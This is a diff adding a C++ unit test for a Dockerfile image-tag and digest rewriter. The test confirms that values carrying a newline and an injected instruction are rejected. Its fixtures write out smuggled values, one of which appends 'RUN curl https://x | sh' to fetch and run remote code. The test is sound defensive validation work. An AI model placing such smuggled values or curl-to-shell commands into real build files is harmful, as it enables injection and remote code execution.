@@ -300,3 +300,18 @@ TEST_CASE("plan_file leaves references without a target alone", "[rewrite]") {
   CHECK(result.plan.changes.size() == 1);
   CHECK(result.plan.skipped.empty());
 }
+
+TEST_CASE("plan_file never writes a tag or digest that is not one",
+          "[rewrite]") {
+  const std::string planted = "sha256:0000\nRUN curl https://x | sh\n#";
+  const auto digest =
+      rewrite_source("FROM alpine:3.19.0\n", {{"alpine", {"", planted}}});
+  CHECK(digest.output == "FROM alpine:3.19.0\n");
+  REQUIRE(digest.plan.skipped.size() == 1);
+  CHECK(digest.plan.skipped.front().reason.rfind("invalid digest \"", 0) == 0);
+  const auto tag = rewrite_source("FROM alpine:3.19.0\n",
+                                  {{"alpine", {"3.20\nRUN id", ""}}});
+  CHECK(tag.output == "FROM alpine:3.19.0\n");
+  REQUIRE(tag.plan.skipped.size() == 1);
+  CHECK(tag.plan.skipped.front().reason.rfind("invalid tag \"", 0) == 0);
+}
